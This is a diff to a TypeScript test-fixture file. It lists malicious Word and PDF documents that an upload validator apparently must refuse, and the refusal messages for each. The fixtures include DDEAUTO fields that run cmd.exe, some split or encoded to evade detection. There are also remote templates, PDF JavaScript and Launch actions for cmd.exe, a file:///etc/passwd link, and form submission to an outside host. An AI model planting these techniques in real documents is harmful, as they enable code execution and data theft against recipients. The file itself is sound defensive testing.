@@ -1,18 +1,25 @@
-import { ABSTRACT_MESSAGES } from '#domain/abstracts/messages.ts';
+import { ABSTRACT_MESSAGES, fetchingField } from '#domain/abstracts/messages.ts';
 import {
+  body,
   bomb,
   contentTypes,
   type DocumentCase,
+  field,
   first,
   fixtures,
+  having,
+  link,
   OVERRIDE,
   part,
-  referring,
+  pdfWithXrefStream,
   relationship,
   word,
 } from './document-parts.ts';
 import { docx, docxParts, pdf } from './documents.ts';
 import { zip } from './zip-writer.ts';
+
+const EXTERNAL = 'TargetMode="External"';
+const SCRIPT = '/S/JavaScript/JS(app.alert\\(1\\))';
 
 /** Documents that must be refused. */
 export const HOSTILE: readonly DocumentCase[] = [
@@ -74,23 +81,23 @@ export const HOSTILE: readonly DocumentCase[] = [
   ],
   [
     'a Word document with a template elsewhere',
-    referring('word/_rels/settings.xml.rels', relationship('attachedTemplate', 'https://example.org/t.dotm')),
+    having('word/_rels/settings.xml.rels', relationship('attachedTemplate', 'https://example.org/t.dotm')),
   ],
   [
     'a Word document with a picture elsewhere',
-    referring('word/_rels/document.xml.rels', relationship('image', 'file://server/share/a.png')),
+    having('word/_rels/document.xml.rels', relationship('image', 'file://server/share/a.png')),
   ],
   [
     'a Word document with an object elsewhere, behind a sign that ends a careless tag',
-    referring('word/_rels/header1.xml.rels', relationship('oleObject', 'https://example.org/?a>b')),
+    having('word/_rels/header1.xml.rels', relationship('oleObject', 'https://example.org/?a>b')),
   ],
   [
     'a Word document with a frame elsewhere, in other letters',
-    referring('word/_rels/x.xml.rels', relationship('frame', 'http://e.org', 'TargetMode="&#69;xternal"')),
+    having('word/_rels/x.xml.rels', relationship('frame', 'http://e.org', 'TargetMode="&#69;xternal"')),
   ],
   [
     'a Word document with a template elsewhere, in UTF-16',
-    referring(
+    having(
       'word/_rels/settings.xml.rels',
       Buffer.from(`\ufeff${relationship('attachedTemplate', 'https://e.org/t.dotm')}`, 'utf16le'),
     ),
@@ -201,13 +208,213 @@ export const HOSTILE: readonly DocumentCase[] = [
     'a Word document with a list of types that is too long',
     () => word({ contentTypes: contentTypes(`${OVERRIDE}${' '.repeat(5 * 1024 * 1024)}`) }),
   ],
+  [
+    'a Word document with a template elsewhere, hidden by a comment in an instruction',
+    having(
+      'word/_rels/settings.xml.rels',
+      relationship('attachedTemplate', 'https://e.org/t.dotm', EXTERNAL, '<?a <!-- ?>'),
+    ),
+  ],
+  [
+    'a Word document with a template elsewhere, hidden by a comment in CDATA',
+    having(
+      'word/_rels/settings.xml.rels',
+      relationship('attachedTemplate', 'https://e.org/t.dotm', EXTERNAL, '<![CDATA[<!--]]>'),
+    ),
+  ],
+  [
+    'a Word document with a template elsewhere, that says it is inside',
+    having('word/_rels/settings.xml.rels', relationship('attachedTemplate', '\\\\server\\share\\t.dotm', '')),
+  ],
+  [
+    'a Word document with relationships in an encoding that hides signs',
+    having(
+      'word/_rels/document.xml.rels',
+      relationship('image', 'https://e.org/a.png').replace('?>', ' encoding="utf-7"?>'),
+    ),
+  ],
+  ['a Word document with a field, DDE', () => word({ document: body(field(' DDE Excel a.xls ')) })],
+  [
+    'a Word document with a field, DDEAUTO',
+    () => word({ document: body(field('DDEAUTO c:\\windows\\cmd.exe "/k calc"')) }),
+  ],
+  [
+    'a Word document with a field, DDEAUTO, in pieces',
+    () => word({ document: body(field(' D', 'DE', '', 'auto cmd')) }),
+  ],
+  [
+    'a Word document with a field, DDEAUTO, within another',
+    () =>
+      word({
+        document: body(
+          field(' IF 1 = 1 ', `</w:instrText></w:r>${field('DDEAU', 'TO cmd')}<w:r><w:instrText>`),
+        ),
+      }),
+  ],
+  [
+    'a Word document with a field, DDEAUTO, that does not end',
+    () =>
+      word({
+        document: body('<w:r><w:fldChar w:fldCharType="begin"/><w:instrText>DDEAUTO cmd</w:instrText></w:r>'),
+      }),
+  ],
+  [
+    'a Word document with a field, DDEAUTO, under another prefix and in signs of XML',
+    () => word({ document: body(field('&#68;<![CDATA[DE]]>AUTO cmd')).replaceAll('w:', 'x:') }),
+  ],
+  [
+    'a Word document with a field, INCLUDEPICTURE, in its head',
+    having('word/header1.xml', body(field(' INCLUDEPICTURE "https://e.org/a.png" '), 'hdr')),
+  ],
+  [
+    'a Word document with a field, INCLUDETEXT, in a part with an odd name',
+    having('word/notes.bin', body(field('INCLUDETEXT "\\\\server\\a.doc"'), 'footnotes')),
+  ],
+  [
+    'a Word document with a field, LINK, in an attribute',
+    () => word({ document: body('<w:fldSimple w:instr=" link Excel.Sheet a.xls "/>') }),
+  ],
+  [
+    'a Word document with a field, LINK, in UTF-16',
+    having('word/footer1.xml', Buffer.from(`\ufeff${body(field('LINK Excel.Sheet'), 'ftr')}`, 'utf16le')),
+  ],
+  ['a Word document that takes in another file', () => word({ document: body('<w:altChunk r:id="r1"/>') })],
+  [
+    'a Word document that takes in another file, as its relationship says',
+    having('word/_rels/document.xml.rels', relationship('aFChunk', 'a.html', '')),
+  ],
+  [
+    'a Word document with an object, an equation of another program',
+    having('word/embeddings/oleObject1.bin', 'MathType'),
+  ],
+  [
+    'a Word document with an object under another name',
+    having('word/_rels/document.xml.rels', relationship('oleObject', 'media/image1.bin', '')),
+  ],
+  [
+    'a Word document with an object that is a table',
+    having('word/_rels/document.xml.rels', relationship('package', 'media/a.xlsx', '')),
+  ],
+  [
+    'a Word document with an object in its text',
+    () => word({ document: body('<w:object><o:OLEObject Type="Link"/></w:object>') }),
+  ],
+  ['a PDF with a script as it opens', () => pdf({ catalogue: `/OpenAction<<${SCRIPT}>>` })],
+  [
+    'a PDF with a script as it opens, in an object stream',
+    () => pdfWithXrefStream({ catalogue: `/OpenAction<<${SCRIPT}>>`, packed: true }),
+  ],
+  [
+    'a PDF with a script of the document',
+    () => pdf({ catalogue: `/Names<</JavaScript<</Names[(a)<<${SCRIPT}>>]>>>>` }),
+  ],
+  ['a PDF with a script as it closes', () => pdf({ catalogue: `/AA<</WC<<${SCRIPT}>>>>` })],
+  ['a PDF with a script of a page', () => pdf({ page: `/AA<</O<<${SCRIPT}>>>>` })],
+  [
+    'a PDF with a script of a field',
+    () =>
+      pdf({
+        catalogue: '/AcroForm<</Fields[6 0 R]>>',
+        page: '/Annots[6 0 R]',
+        objects: [`<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/Rect[0 0 9 9]/AA<</K<<${SCRIPT}>>>>>>`],
+      }),
+  ],
+  ['a PDF with a link to a program', () => pdf({ page: `/Annots[${link('/S/Launch/F(cmd.exe)')}]` })],
+  [
+    'a PDF with a link to a program, in an object stream',
+    () => pdfWithXrefStream({ page: `/Annots[${link('/S/#4caunch/F<</F(cmd.exe)>>')}]`, packed: true }),
+  ],
+  [
+    'a PDF with a link to a program of a share',
+    () => pdf({ page: `/Annots[${link('/S/Launch/F(\\\\\\\\server\\\\share\\\\a.exe)')}]` }),
+  ],
+  [
+    'a PDF with a link to another file',
+    () => pdf({ page: `/Annots[${link('/S/GoToR/F(other.pdf)/D[0/Fit]')}]` }),
+  ],
+  [
+    'a PDF with a link to another file in its contents',
+    () =>
+      pdf({
+        catalogue: '/Outlines 6 0 R',
+        objects: [
+          '<</Type/Outlines/First 7 0 R/Last 7 0 R/Count 1>>',
+          '<</Title(a)/Parent 6 0 R/A<</S/GoToR/F(../other.pdf)/D[0/Fit]>>>>',
+        ],
+      }),
+  ],
+  [
+    'a PDF with a link to an address of this computer',
+    () => pdf({ page: `/Annots[${link('/S/URI/URI(file:///etc/passwd)')}]` }),
+  ],
+  [
+    'a PDF with a link to a file within it',
+    () =>
+      pdf({
+        catalogue: '/Names<</EmbeddedFiles<</Names[(a.pdf)<</Type/Filespec/F(a.pdf)/EF<</F 6 0 R>>>>]>>>>',
+        page: `/Annots[${link('/S/GoToE/T<</R/C/N(a.pdf)>>')}]`,
+        objects: ['<</Length 1>>stream\nx\nendstream'],
+      }),
+  ],
+  [
+    'a PDF with a button that sends a form',
+    () =>
+      pdf({
+        catalogue: '/AcroForm<</Fields[6 0 R]>>',
+        page: '/Annots[6 0 R]',
+        objects: [
+          '<</Type/Annot/Subtype/Widget/FT/Btn/Ff 65536/T(a)/Rect[0 0 9 9]/A<</S/SubmitForm/F(https://e.org)>>>>',
+        ],
+      }),
+  ],
+  ['a PDF with a film', () => pdf({ page: '/Annots[<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]>>]' })],
   ['a PDF whose name is written backwards', () => pdf(), 'abstract\u202Efdp.exe'],
+];
+
+/** What the reader of PDFs does not tell of, and passes nevertheless (SECURITY.md). */
+export const UNTOLD: readonly DocumentCase[] = [
+  [
+    'a PDF that goes to an address as it opens',
+    () => pdf({ catalogue: '/OpenAction<</S/URI/URI(https://e.org)>>' }),
+  ],
+  [
+    'a PDF that goes to an address as it opens, in an object stream',
+    () => pdfWithXrefStream({ catalogue: '/OpenAction<</S/URI/URI(https://e.org)>>', packed: true }),
+  ],
+  [
+    'a PDF that starts a program as it opens',
+    () => pdf({ catalogue: '/OpenAction 6 0 R', objects: ['<</S/Launch/F(cmd.exe)>>'] }),
+  ],
+  [
+    'a PDF that sends itself as it opens',
+    () => pdf({ catalogue: '/OpenAction<</S/SubmitForm/F(https://e.org)>>' }),
+  ],
+  [
+    'a PDF that goes to an address as its page opens',
+    () => pdf({ page: '/AA<</O<</S/URI/URI(https://e.org)>>>>' }),
+  ],
+  ['a PDF with a script behind a link', () => pdf({ page: `/Annots[${link(SCRIPT)}]` })],
+  [
+    'a PDF with a script after another action',
+    () => pdf({ page: `/Annots[${link(`/S/GoTo/D[3 0 R/Fit]/Next<<${SCRIPT}>>`)}]` }),
+  ],
+  [
+    'a PDF with a link to a program after a place to go to',
+    () => pdf({ page: `/Annots[${link('/S/GoTo/D[3 0 R/Fit]/Next<</S/Launch/F(cmd.exe)>>')}]` }),
+  ],
 ];
 
 /** What their authors are told of those that are not simply something else. */
 const WHY: [titles: RegExp, message: keyof typeof ABSTRACT_MESSAGES][] = [
   [/written by .*encrypted|password|encrypted part/, 'filePassword'],
   [/macro|ActiveX/, 'fileMacros'],
+  [/Word .*(?:object (?!elsewhere)|an object,)/, 'fileObject'],
+  [/takes in another file/, 'fileChunk'],
+  [/^a PDF with a script/, 'pdfScript'],
+  [/^a PDF with a link/, 'pdfFile'],
+  [/^a PDF with a button/, 'pdfButton'],
+  [/^a PDF with a film/, 'pdfMedia'],
+  [/template elsewhere/, 'fileTemplate'],
   [/elsewhere/, 'fileElsewhere'],
   [/says little|cut off|only the ends|an encrypted PDF/, 'fileDamaged'],
   [/unpacks to|2,001 parts|too long/, 'fileUnpacked'],
@@ -220,5 +427,7 @@ const WHY: [titles: RegExp, message: keyof typeof ABSTRACT_MESSAGES][] = [
 
 /** What the author of a hostile document is told, by its title. */
 export function refusalOf(title: string): string {
+  const [, field] = /with a field, ([A-Z]+)/.exec(title) ?? [];
+  if (field !== undefined) return fetchingField(field);
   return ABSTRACT_MESSAGES[WHY.find(([titles]) => titles.test(title))?.[1] ?? 'fileKind'];
 }
